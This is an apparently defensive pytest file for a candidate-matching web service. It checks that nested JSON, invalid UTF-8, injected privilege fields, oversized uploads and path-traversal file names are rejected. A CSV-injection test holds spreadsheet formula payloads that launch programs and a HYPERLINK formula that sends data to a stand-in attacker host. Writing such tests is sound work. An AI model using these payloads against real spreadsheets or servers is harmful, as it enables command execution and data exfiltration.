"""Hostile input: each gets a clear 4xx and nothing is written.

tests/service/test_bad_input.py already covers an unknown field and 10,000 skills on
POST /candidates, a 5 MB JSON body, malformed JSON and an invalid UTF-8 string in it,
and all-or-nothing CSV import; this file covers the rest of the hostile cases.
"""

from __future__ import annotations

import csv
import io
import json
from collections.abc import Iterator
from pathlib import Path

import pytest
from fastapi.testclient import TestClient
from sqlalchemy import text
from typer.testing import CliRunner

from service.app import create_app
from service.cli import app as cli
from service.settings import Settings, get_settings
from tests.conftest import auth, ids_by_external, settings_for

PROFILE = {"name": "Test Person", "skills": ["JS"], "languages": {"es": "B2"}, "location": "Barcelona"}
POSTING = {"company": "Sol Digital SL", "title": "Dev", "required_skills": ["JS"], "location": "Barcelona"}
JSON = {"content-type": "application/json"}
DEEP = b"[" * 10_000 + b"]" * 10_000
TABLES = ("candidates", "postings", "embeddings", "tokens", "interviews", "companies")


def _written(client: TestClient) -> dict[str, int]:
    """Rows per table, and what the running app serves (the coordinator's totals)."""
    with client.app.state.matcher.sessions() as session:
        counts = {t: session.scalar(text(f"SELECT count(*) FROM {t}")) for t in TABLES}
    for side in ("candidates", "postings"):
        counts[f"served_{side}"] = client.get(f"/{side}", params={"limit": 1}).json()["total"]
    return counts


def _clear_4xx(response) -> None:  # type: ignore[no-untyped-def]
    assert 400 <= response.status_code < 500, (response.status_code, response.text)
    assert isinstance(response.json()["detail"], str) and response.json()["detail"]


@pytest.fixture
def ids(client: TestClient) -> dict[str, int]:
    return {"candidate": ids_by_external(client, "candidates")["g001"],
            "posting": ids_by_external(client, "postings")["p001"]}


@pytest.mark.parametrize(
    ("method", "path", "body"),
    [
        ("POST", "/candidates", DEEP),
        ("POST", "/postings", DEEP),
        ("POST", "/search", DEEP),
        ("POST", "/tokens", DEEP),
        ("POST", "/interviews", DEEP),
        ("PUT", "/candidates/{candidate}", DEEP),
        ("POST", "/candidates", b'{"name": "x", "skills": ' + DEEP + b"}"),
        ("POST", "/candidates", b'{"a": ' * 10_000 + b"1" + b"}" * 10_000),
        ("POST", "/candidates", b'{"name": ' + b"[" * 10_000),  # and never closed
    ],
    ids=["candidates", "postings", "search", "tokens", "interviews", "put", "in-a-field", "objects", "unclosed"],
)
def test_deeply_nested_json_body(client: TestClient, ids: dict[str, int], method: str, path: str, body: bytes) -> None:
    before = _written(client)
    response = client.request(method, path.format(**ids), content=body, headers=JSON)
    _clear_4xx(response)
    assert _written(client) == before


@pytest.mark.parametrize(
    ("name", "data"),
    [
        ("deep.json", DEEP),
        ("rows.json", b'[{"name": "x", "skills": ' + DEEP + b"}]"),
        ("rows.ndjson", b'{"name": "x", "skills": ' + DEEP + b"}\n"),
    ],
    ids=["array", "in-a-row", "ndjson"],
)
def test_deeply_nested_json_import_file(client: TestClient, name: str, data: bytes) -> None:
    before = _written(client)
    response = client.post("/candidates:import", files={"file": (name, data, "application/json")})
    _clear_4xx(response)
    assert _written(client) == before


@pytest.mark.parametrize(
    ("method", "path", "body"),
    [
        ("POST", "/search", b'{"text": "caf\xe9 developer"}'),  # Latin-1, not UTF-8
        ("POST", "/postings", b'{"company": "\xc3", "title": "Dev", "required_skills": ["JS"]}'),
        ("PUT", "/candidates/{candidate}", b'{"name": "\xed\xa0\x80", "skills": ["JS"]}'),  # a surrogate
        ("POST", "/tokens", b'{"role": "company", "company": "\xff"}'),
    ],
    ids=["search", "postings", "put-surrogate", "tokens"],
)
def test_invalid_utf8_body(client: TestClient, ids: dict[str, int], method: str, path: str, body: bytes) -> None:
    before = _written(client)
    original = client.get(f"/candidates/{ids['candidate']}").json()
    response = client.request(method, path.format(**ids), content=body, headers=JSON)
    _clear_4xx(response)
    assert _written(client) == before
    assert client.get(f"/candidates/{ids['candidate']}").json() == original


@pytest.mark.parametrize(
    ("name", "data"),
    [
        ("people.csv", b"name,skills\nAna,JS\n\xff\xfe,Python\n"),
        ("people.json", b'[{"name": "Ana", "skills": ["JS"]}, {"name": "\xff", "skills": ["JS"]}]'),
        ("people.ndjson", b'{"name": "Ana", "skills": ["JS"]}\n{"name": "\xc3", "skills": ["JS"]}\n'),
    ],
    ids=["csv", "json", "ndjson"],
)
def test_invalid_utf8_import_file(client: TestClient, name: str, data: bytes) -> None:
    before = _written(client)
    response = client.post("/candidates:import", files={"file": (name, data)})
    assert response.status_code == 422 and "UTF-8" in response.json()["detail"], response.text
    assert _written(client) == before


def test_formula_cells_imported_then_exported_are_defused(
    client: TestClient, workdir: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """CSV injection: every cell a spreadsheet would run comes back out of `bridgematch export` quoted."""
    formulas = {
        "name": "=cmd|' /C calc'!A0",
        "headline": "+1+cmd|' /C notepad'!A0",
        "summary": "-2+3+cmd|' /C calc'!A0",
        "location": "@SUM(1+1)*cmd|' /C calc'!A0",
        "skills": "=HYPERLINK(\"http://evil.example/?x=\"&A1);Python",
        "projects": "@import",
    }
    buffer = io.StringIO()
    writer = csv.DictWriter(buffer, fieldnames=[*formulas, "external_id"])
    writer.writeheader()
    writer.writerow(formulas | {"external_id": "formula-1"})
    response = client.post("/candidates:import", files={"file": ("evil.csv", buffer.getvalue(), "text/csv")})
    assert response.status_code == 201, response.text
    stored = client.get(f"/candidates/{response.json()['ids'][0]}").json()
    assert stored["name"] == formulas["name"]  # stored as given: only the export defuses

    monkeypatch.setenv("BRIDGEMATCH_DATABASE_URL", f"sqlite:///{workdir / 'bridgematch.db'}")
    monkeypatch.setenv("BRIDGEMATCH_INDEX_DIR", str(workdir / "index"))
    get_settings.cache_clear()
    out = tmp_path / "export.csv"
    try:
        result = CliRunner().invoke(cli, ["export", "--kind", "candidates", str(out)])
    finally:
        get_settings.cache_clear()
    assert result.exit_code == 0, result.output
    rows = {row["external_id"]: row for row in csv.DictReader(io.StringIO(out.read_text()))}
    exported = rows["formula-1"]
    for field, value in formulas.items():
        assert exported[field].startswith("'"), (field, exported[field])
        assert exported[field][1:].startswith(value[:1])
    unsafe = [cell for row in rows.values() for cell in row.values() if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]
    assert unsafe == []


def _multipart(filename: bytes, data: bytes) -> tuple[bytes, dict[str, str]]:
    """A multipart body written by hand, so the file name's bytes reach the server unchanged."""
    boundary = b"hostile-boundary-7d3f"
    body = (
        b"--" + boundary + b"\r\n"
        b'Content-Disposition: form-data; name="file"; filename="' + filename + b'"\r\n'
        b"Content-Type: application/octet-stream\r\n\r\n" + data + b"\r\n--" + boundary + b"--\r\n"
    )
    return body, {"content-type": f"multipart/form-data; boundary={boundary.decode()}"}


@pytest.fixture
def outside(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Iterator[Path]:
    """Run with an empty working directory and yield it; afterwards nothing new may exist around it."""
    cwd = tmp_path / "cwd"
    cwd.mkdir()
    monkeypatch.chdir(cwd)
    targets = [Path("/etc/passwd.csv"), Path("/etc/x.csv"), Path("/x.csv"), Path("/tmp/abs.csv")]
    present = {p for p in targets if p.exists()}
    before = {p for p in tmp_path.rglob("*") if "index" not in p.parts and "bridgematch.db" not in p.name}
    yield cwd
    after = {p for p in tmp_path.rglob("*") if "index" not in p.parts and "bridgematch.db" not in p.name}
    assert after == before, sorted(map(str, after - before))
    assert {p for p in targets if p.exists()} == present


@pytest.mark.parametrize(
    "filename",
    [
        b"../../etc/passwd.csv",
        b"..\\..\\..\\etc\\x.csv",
        b"C:\\x.csv",
        b"/etc/x.csv",
        b"/tmp/abs.csv",
        b"x\x00.csv",
        b"../x.csv\x00.exe",
        b"x.csv.exe",
        b"..",
        b"passwd",
        b"%2e%2e%2fx.csv",
    ],
)
def test_path_tricks_in_upload_names(client: TestClient, outside: Path, filename: bytes) -> None:
    """Only the extension picks the parser; no name makes the server write anywhere."""
    before = _written(client)
    body, headers = _multipart(filename, b"name,skills,location\nAna,JS,Barcelona\n")
    response = client.post("/candidates:import", content=body, headers=headers)
    suffix = Path(filename.decode("utf-8", "replace")).suffix.lower()
    if suffix == ".csv":
        assert response.status_code == 201, response.text
        assert _written(client)["candidates"] == before["candidates"] + 1
    else:
        _clear_4xx(response)
        assert "format" in response.json()["detail"]
        assert _written(client) == before
    assert list(outside.iterdir()) == []


@pytest.mark.parametrize(
    ("method", "path", "body", "field"),
    [
        ("POST", "/postings", POSTING | {"salary": 50_000}, "salary"),
        ("PUT", "/candidates/{candidate}", PROFILE | {"password": "x"}, "password"),
        ("PUT", "/postings/{posting}", POSTING | {"owner_id": 1}, "owner_id"),
        ("POST", "/search", {"text": "python", "org_id": 2}, "org_id"),
        ("POST", "/tokens", {"role": "coordinator", "org_id": 2}, "org_id"),
        ("POST", "/interviews", {"posting_id": 1, "candidate_id": 1, "status": "accepted"}, "status"),
    ],
    ids=["postings", "put-candidate", "put-posting", "search", "tokens", "interviews"],
)
def test_unknown_fields_are_422(
    client: TestClient, ids: dict[str, int], method: str, path: str, body: dict, field: str
) -> None:
    before = _written(client)
    original = client.get(f"/candidates/{ids['candidate']}").json()
    response = client.request(method, path.format(**ids), json=body)
    assert response.status_code == 422 and field in response.text, response.text
    assert _written(client) == before
    assert client.get(f"/candidates/{ids['candidate']}").json() == original


@pytest.mark.parametrize(
    ("name", "data", "field"),
    [
        ("p.csv", b"name,skills,salary\nAna,JS,100\n", "salary"),
        ("p.json", json.dumps([PROFILE, PROFILE | {"is_admin": True}]).encode(), "is_admin"),
    ],
    ids=["csv-column", "json-key"],
)
def test_unknown_fields_in_import_files_are_422(client: TestClient, name: str, data: bytes, field: str) -> None:
    before = _written(client)
    response = client.post("/candidates:import", files={"file": (name, data)})
    assert response.status_code == 422 and field in response.text, response.text
    assert _written(client) == before


SKILLS = [f"skill{i}" for i in range(10_000)]


@pytest.mark.parametrize(
    ("method", "path", "body", "field"),
    [
        ("PUT", "/candidates/{candidate}", PROFILE | {"skills": SKILLS}, "skills"),
        ("POST", "/postings", POSTING | {"required_skills": SKILLS}, "required_skills"),
        ("PUT", "/postings/{posting}", POSTING | {"nice_skills": SKILLS}, "nice_skills"),
    ],
    ids=["put-candidate", "posting-required", "posting-nice"],
)
def test_ten_thousand_skills_are_422(
    client: TestClient, ids: dict[str, int], method: str, path: str, body: dict, field: str
) -> None:
    before = _written(client)
    original = client.get(f"/postings/{ids['posting']}").json()
    response = client.request(method, path.format(**ids), json=body)
    assert response.status_code == 422 and field in response.text, response.text
    assert _written(client) == before
    assert client.get(f"/postings/{ids['posting']}").json() == original


def test_ten_thousand_skills_in_an_import_row_are_422(client: TestClient) -> None:
    before = _written(client)
    data = ("name,skills\nAna,JS\nBo," + ";".join(SKILLS) + "\n").encode()
    response = client.post("/candidates:import", files={"file": ("p.csv", data)})
    assert response.status_code == 422 and "row 2" in response.text and "skills" in response.text
    assert _written(client) == before


def test_three_megabyte_import_with_one_bad_row_writes_nothing(client: TestClient) -> None:
    rows = [
        PROFILE | {"name": f"Person {i}", "summary": f"Bootcamp graduate number {i}. " * 6,
                   "skills": ["Python", "Django", "SQL", "React"], "external_id": f"bulk-{i}"}
        for i in range(9_000)
    ]
    rows[7_777]["languages"] = {"es": "Z9"}
    data = json.dumps(rows).encode()
    assert 3_000_000 <= len(data) < Settings().max_upload_bytes
    before = _written(client)
    response = client.post("/candidates:import", files={"file": ("big.json", data, "application/json")})
    assert response.status_code == 422, response.text[:300]
    assert "row 7778" in response.text and "languages" in response.text
    assert _written(client) == before
    assert client.get("/candidates", params={"limit": 1}).json()["total"] == before["served_candidates"]


@pytest.fixture
def small_upload_client(workdir: Path, tokens: dict[str, str]) -> Iterator[TestClient]:
    app = create_app(settings_for(workdir, max_upload_bytes=20_000))
    with TestClient(app, headers=auth(tokens["coordinator"])) as test_client:
        yield test_client


BIG_CSV = b"name,skills,location\n" + b"Ana,JS;Python,Barcelona\n" * 1_250  # 30 KB


def test_upload_over_the_limit_is_413(small_upload_client: TestClient) -> None:
    client = small_upload_client
    before = _written(client)
    response = client.post("/candidates:import", files={"file": ("big.csv", BIG_CSV, "text/csv")})
    assert response.status_code == 413 and "20000" in response.json()["detail"]
    assert _written(client) == before
    small = BIG_CSV[:2_000].rsplit(b"\n", 1)[0] + b"\n"
    assert client.post("/candidates:import", files={"file": ("ok.csv", small)}).status_code == 201


def test_chunked_upload_over_the_limit_is_413(small_upload_client: TestClient) -> None:
    client = small_upload_client
    before = _written(client)
    body, headers = _multipart(b"big.csv", BIG_CSV)
    chunks = (body[start : start + 4096] for start in range(0, len(body), 4096))
    response = client.post("/candidates:import", content=chunks, headers=headers)
    assert response.status_code == 413, response.text
    assert _written(client) == before
